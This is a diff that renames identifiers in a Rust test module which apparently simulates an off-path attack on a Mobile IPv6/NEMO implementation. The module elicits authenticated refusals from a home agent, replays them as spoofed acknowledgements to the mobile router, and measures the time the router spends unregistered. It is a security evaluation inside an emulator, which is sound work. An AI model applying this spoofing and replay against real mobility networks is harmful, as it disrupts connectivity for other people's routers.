@@ -1,10 +1,10 @@
 //! An off-path attacker makes the home agent authenticate refusals (RFC 4285 §5), and sends them to the mobile router
 //! as acknowledgements of its own updates.
 
-use super::{OUT_OF_WINDOW, Outsider, insider, own_address};
+use super::{OUT_OF_WINDOW, Outsider, attacker_address, insider};
 use crate::clock;
-use crate::topology::{CORRESPONDENT, HOME_AGENT, World};
-use crate::traffic::forge::{Registrant, Request, acknowledgement};
+use crate::topology::{CORRESPONDENT, HOME_AGENT, NemoNetwork};
+use crate::traffic::forge::{SyntheticRouter, UpdateRequest, parse_acknowledgement};
 use anyhow::{Context, Result};
 use roam6_proto::Report;
 use roam6_proto::contract::view::BindingView;
@@ -18,19 +18,19 @@ use std::time::Duration;
 /// the mobile router.
 const DELAY: Duration = Duration::from_millis(15);
 /// How long the home agent's answer may take in each round: it may rate-limit its answers.
-const ANSWER: Duration = Duration::from_millis(100);
+const REFUSAL_TIMEOUT: Duration = Duration::from_millis(100);
 
 /// Seconds of `span` in which the mobile router was not registered.
 pub(crate) fn unbound_seconds(span: Duration) -> Result<f64> {
-    let world = World::build(DELAY, 1, "duplicate_detection = false")?;
+    let world = NemoNetwork::build(DELAY, 1, "duplicate_detection = false")?;
     let vehicle = world.vehicle(0, &["up0"])?;
-    world.air.plug(vehicle.uplink(0)?, world.visited[0].link)?;
+    world.emulator.plug(vehicle.uplink(0)?, world.visited[0].link)?;
     vehicle.wait_until_connected(CORRESPONDENT)?;
-    let bindings: Vec<BindingView> = serde_json::from_str(&vehicle.daemon.ask(&["show", "bindings", "--json"])?)?;
+    let bindings: Vec<BindingView> = serde_json::from_str(&vehicle.daemon.query(&["show", "bindings", "--json"])?)?;
     let care_of = bindings.iter().find_map(|binding| binding.care_of).context("the mobile router is not bound")?;
     let mut forger = Forger {
         outsider: Outsider::connect(&world)?,
-        victim: Registrant { secret: b"not the key".to_vec(), ..insider(0, care_of) },
+        victim: SyntheticRouter { key: b"not the key".to_vec(), ..insider(0, care_of) },
         last: None,
     };
     let began = clock::unix_micros();
@@ -39,17 +39,17 @@ pub(crate) fn unbound_seconds(span: Duration) -> Result<f64> {
         forger.round()?;
     }
     let until = clock::unix_micros();
-    let events = vehicle.daemon.events().since(0);
+    let events = vehicle.daemon.events().events_from(0);
     let changes = events.iter().filter_map(|event| match &event.report {
         Report::Bound { .. } => Some((event.unix_micros, true)),
         Report::Unbound { .. } => Some((event.unix_micros, false)),
         _ => None,
     });
-    Ok(unbound(changes, began, until) as f64 / 1e6)
+    Ok(unbound_micros(changes, began, until) as f64 / 1e6)
 }
 
 /// Microseconds from `began` until `until` without a binding, from changes in order of time.
-fn unbound(changes: impl Iterator<Item = (u64, bool)>, began: u64, until: u64) -> u64 {
+fn unbound_micros(changes: impl Iterator<Item = (u64, bool)>, began: u64, until: u64) -> u64 {
     let (mut total, mut lost_at) = (0, None);
     for (at, bound) in changes.filter(|(at, _)| (began..until).contains(at)) {
         match (bound, lost_at) {
@@ -67,7 +67,7 @@ fn unbound(changes: impl Iterator<Item = (u64, bool)>, began: u64, until: u64) -
 /// An attacker that knows the addresses of both ends and no key.
 struct Forger {
     outsider: Outsider,
-    victim: Registrant,
+    victim: SyntheticRouter,
     /// The last sequence number that the home agent has accepted, if known.
     last: Option<Sequence>,
 }
@@ -78,21 +78,26 @@ impl Forger {
     fn round(&mut self) -> Result<()> {
         // Of two numbers that differ by half of the number space one is out of window.
         for guess in [Sequence(0), Sequence(0x8000)] {
-            let request = Request::new(self.last.map_or(guess, Sequence::next));
-            self.outsider.send(&self.victim.request_from(own_address(1), &request))?;
-            match self.outsider.hear(ANSWER, |packet| acknowledgement(packet).map(|told| (told, packet.to_vec()))) {
+            let request = UpdateRequest::new(self.last.map_or(guess, Sequence::next));
+            self.outsider.send(&self.victim.signed_update_from(attacker_address(1), &request))?;
+            match self
+                .outsider
+                .receive(REFUSAL_TIMEOUT, |packet| parse_acknowledgement(packet).map(|told| (told, packet.to_vec())))
+            {
                 Some(((_, OUT_OF_WINDOW, last), _)) => self.last = Some(last),
-                Some(((_, status, _), packet)) if status >= 128 && self.last.is_some() => return self.show(&packet),
+                Some(((_, status, _), packet)) if status >= 128 && self.last.is_some() => {
+                    return self.replay_refusal(&packet);
+                }
                 _ => {}
             }
         }
         Ok(())
     }
 
-    fn show(&mut self, refusal: &[u8]) -> Result<()> {
+    fn replay_refusal(&mut self, refusal: &[u8]) -> Result<()> {
         let Ok(datagram) = Datagram::parse(refusal) else { return Ok(()) };
         let message = Message::BindingRefreshRequest { options: Vec::new() };
-        let request = message.emit(HOME_AGENT, self.victim.home.0);
+        let request = message.emit(HOME_AGENT, self.victim.home_address.0);
         let forged = datagram.payload.to_vec();
         self.outsider.send(&self.to_victim(&request))?;
         // The mobile router sends its update just after the request; the home agent's own answer is still in flight.
@@ -106,7 +111,7 @@ impl Forger {
     /// A mobility message to the care-of address with the home agent's source address.
     fn to_victim(&self, message: &[u8]) -> Vec<u8> {
         let care_of: Ipv6Addr = self.victim.care_of.0;
-        let header = Header::new(HOME_AGENT, care_of).with_routing_home(self.victim.home.0);
+        let header = Header::new(HOME_AGENT, care_of).with_routing_home(self.victim.home_address.0);
         ip6::emit(&header, protocol::MOBILITY, message)
     }
 }
@@ -116,9 +121,9 @@ mod tests {
     use super::*;
 
     #[test]
-    fn time_without_a_binding_is_summed_up() {
+    fn time_without_binding_is_summed() {
         let changes = [(5, true), (10, false), (12, false), (20, true), (30, false)];
-        assert_eq!(unbound(changes.into_iter(), 6, 40), 10 + 10);
-        assert_eq!(unbound([].into_iter(), 6, 40), 0);
+        assert_eq!(unbound_micros(changes.into_iter(), 6, 40), 10 + 10);
+        assert_eq!(unbound_micros([].into_iter(), 6, 40), 0);
     }
 }
